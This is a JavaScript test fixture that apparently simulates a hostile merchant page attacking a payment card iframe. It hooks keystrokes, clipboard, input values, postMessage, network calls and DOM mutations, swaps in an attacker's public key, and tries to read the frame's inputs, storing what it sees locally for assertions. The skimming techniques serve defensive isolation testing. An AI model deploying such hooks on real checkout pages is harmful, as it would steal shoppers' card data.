// A hostile merchant page's first script (issue 9 tests): a skimmer that hooks everything a
// page script can hook, offers its own public key to the card frame, and keeps what it saw in
// window.__hostile for the test to search. ATTACKER_KEY is filled in by hostile-page.spec.ts,
// served as /first.js by e2e/support/merchant-front.ts.
(() => {
  const seen = [];
  window.__hostile = seen;
  const text = (value) => {
    try {
      return typeof value === 'string' ? value : JSON.stringify(value);
    } catch {
      return String(value);
    }
  };
  const record = (kind, value) => seen.push(`${kind}:${text(value)}`);
  const ports = new Set();

  // Every capture-phase keyboard, input, paste and clipboard listener on window and document.
  const types = ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'copy', 'cut', 'compositionend', 'focusin', 'focusout'];
  for (const target of [window, document]) {
    for (const type of types) {
      target.addEventListener(type, (event) => record(type, {
        key: event.key, code: event.code, data: event.data, clip: event.clipboardData?.getData('text'),
        values: event.composedPath().map((node) => node.value).filter((v) => v !== undefined),
      }), true);
    }
  }

  // HTMLInputElement.prototype.value, both ways.
  const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    configurable: true,
    get() { const v = value.get.call(this); record('value-get', v); return v; },
    set(v) { record('value-set', v); value.set.call(this, v); },
  });

  // postMessage and MessagePort: every message in and out, and every port seen.
  const windowPost = window.postMessage;
  window.postMessage = function (...args) { record('window-post', args[0]); return windowPost.apply(this, args); };
  window.addEventListener('message', (event) => {
    record('window-message', event.data);
    for (const port of event.ports) {
      ports.add(port);
      port.addEventListener('message', (e) => record('port-in', e.data));
    }
  }, true);
  const portPost = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message, ...rest) {
    ports.add(this);
    record('port-out', message);
    return portPost.call(this, message, ...rest);
  };
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    configurable: true,
    get() { return onmessage.get.call(this); },
    set(listener) { ports.add(this); onmessage.set.call(this, (e) => { record('port-in', e.data); return listener(e); }); },
  });

  // fetch, XHR, sendBeacon, WebSocket.
  const originalFetch = window.fetch;
  window.fetch = function (input, init) { record('fetch', { url: String(input?.url ?? input), body: init?.body }); return originalFetch.call(this, input, init); };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) { record('xhr', body); return send.call(this, body); };
  const beacon = navigator.sendBeacon?.bind(navigator);
  if (beacon) navigator.sendBeacon = (url, data) => { record('beacon', data); return beacon(url, data); };
  const socketSend = WebSocket.prototype.send;
  WebSocket.prototype.send = function (data) { record('websocket', data); return socketSend.call(this, data); };

  // MutationObserver over everything, shadow roots included once they exist.
  const observe = (root) => new MutationObserver((mutations) => {
    for (const m of mutations) record('mutation', [m.type, m.attributeName, m.target.nodeValue, m.target.getAttribute?.(m.attributeName)]);
  }).observe(root, { subtree: true, childList: true, attributes: true, characterData: true, attributeOldValue: true, characterDataOldValue: true });
  observe(document);

  // Offer the frame our own key, every way the page can: attributes, properties, the port. On
  // the port only from svc-ready on: a config posted on the frame's first port before the element
  // took it (this script hears the frame's hello when it comes before the element is defined) is
  // the one the frame answers, and the page only stops its own checkout (FRAME_UNAVAILABLE,
  // docs/frame-mode.md): that hides nothing from it, and this spec is about what it collects.
  const attackerKey = 'ATTACKER_KEY';
  let ready = false;
  document.addEventListener('svc-ready', () => { ready = true; }, true);
  setInterval(() => {
    const element = document.querySelector('svc-card-form');
    if (element && !element.__hooked) {
      element.__hooked = true;
      element.setAttribute('public-key', attackerKey);
      element.publicKey = attackerKey;
      if (element.shadowRoot) observe(element.shadowRoot);
    }
    for (const port of ready ? ports : []) {
      port.postMessage({ v: 1, type: 'config', lang: 'en', strings: {}, acceptedBrands: [], disabled: false, keyId: 'v1', style: {}, publicKey: attackerKey });
    }
    // And try to read the frame's document.
    const iframe = element?.shadowRoot?.querySelector('iframe');
    try {
      record('frame-document', iframe?.contentDocument?.documentElement?.outerHTML ?? 'null');
    } catch (error) {
      record('frame-document-blocked', error.name);
    }
    try {
      record('frame-inputs', [...iframe.contentWindow.document.querySelectorAll('input')].map((i) => i.value));
    } catch (error) {
      record('frame-window-blocked', error.name);
    }
  }, 50);
})();
